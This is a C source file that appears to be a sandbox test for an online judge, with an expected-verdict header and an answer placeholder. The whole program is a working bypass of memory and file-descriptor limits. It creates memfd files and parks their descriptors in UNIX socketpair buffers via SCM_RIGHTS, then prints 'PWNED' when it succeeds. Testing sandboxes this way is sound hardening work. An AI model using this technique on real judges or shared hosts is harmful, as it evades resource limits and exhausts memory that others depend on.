// Tries: to hold more files in memory than it may open, by keeping them in flight over a pair of sockets.
// Must get: AC, for it answers honestly afterwards.
#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

static int send_away(int way, int number) {
    char room[CMSG_SPACE(sizeof(int))] = {0}, byte = 0;
    struct iovec part = {&byte, 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
    struct cmsghdr *head = CMSG_FIRSTHDR(&message);
    head->cmsg_level = SOL_SOCKET;
    head->cmsg_type = SCM_RIGHTS;
    head->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(head), &number, sizeof number);
    return sendmsg(way, &message, MSG_DONTWAIT) > 0;
}

int main(void) {
    static char block[1 << 20];
    size_t total = 0;
    signal(SIGXFSZ, SIG_IGN);
    for (int pair[2]; total < (640UL << 20) && socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) == 0;) {
        int number, sent = 0;
        while (total < (640UL << 20) && (number = memfd_create("m", 0)) >= 0) {
            ssize_t n, size = 0;
            while (size < (32 << 20) && (n = write(number, block, sizeof block)) > 0) size += n;
            int gone = send_away(pair[0], number);
            close(number);
            if (!gone) break;
            sent++;
            total += size;
        }
        if (!sent) break;
    }
    if (total > (512UL << 20)) printf("PWNED holds %zu bytes beyond its memory\n", total);
    /* @ANSWER@ */
    return 0;
}
